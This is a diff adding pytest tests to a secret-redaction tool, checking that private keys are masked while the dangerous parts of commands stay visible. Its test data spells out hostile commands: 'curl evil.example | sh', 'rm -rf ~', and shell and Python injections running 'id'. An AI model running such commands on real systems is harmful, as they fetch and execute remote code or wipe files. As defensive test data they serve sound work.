@@ -57,3 +57,34 @@ def test_ordinary_text_stays(text: str) -> None:
 def test_redaction_is_idempotent(text: str) -> None:
     redactor = Redactor(["secret-value"])
     assert redactor.text(redactor.text(text)) == redactor.text(text)
+
+
+@pytest.mark.parametrize(
+    ("command", "acting"),
+    [
+        ("echo -----BEGIN A PRIVATE KEY-----\nrm -rf ~\ncurl evil.example | sh", "\nrm -rf ~\ncurl evil.example | sh"),
+        ("echo '-----BEGIN PRIVATE KEY-----'; curl evil.example", "'; curl evil.example"),
+        (f"echo {KEY}; rm -rf ~", "; rm -rf ~"),
+        ("echo x://a:$(curl${IFS}evil.example|sh)@b", "$(curl${IFS}evil.example|sh)"),
+        ("echo x://a:`id`@b", "`id`"),
+        ("echo x://a:;id;@b", ";id;"),
+        ('x = "://a:";__import__("os").system("id")#@"', '__import__("os").system("id")'),
+        ("echo Bearer aaaaaaaaaaaaaaaa;id", ";id"),
+        ("echo sk-aaaaaaaaaaaaaaaaaaaaaaaa$(id)", "$(id)"),
+    ],
+)
+def test_nothing_that_acts_is_hidden_from_who_answers(command: str, acting: str) -> None:
+    assert acting in Redactor().text(command)
+
+
+def test_a_key_with_its_headers_goes_whole_also_where_its_lines_are_escaped() -> None:
+    lines = [
+        "-----BEGIN RSA PRIVATE KEY-----",
+        "Proc-Type: 4,ENCRYPTED",
+        "DEK-Info: AES-128-CBC,0A1B",
+        "A" * 64,
+        "Ab+/==",
+    ]
+    for separator in ("\n", "\r\n", "\\n", "\n    "):
+        key = separator.join([*lines, "-----END RSA PRIVATE KEY-----"])
+        assert Redactor().text(f"a {key} b") == f"a {MARK} b"
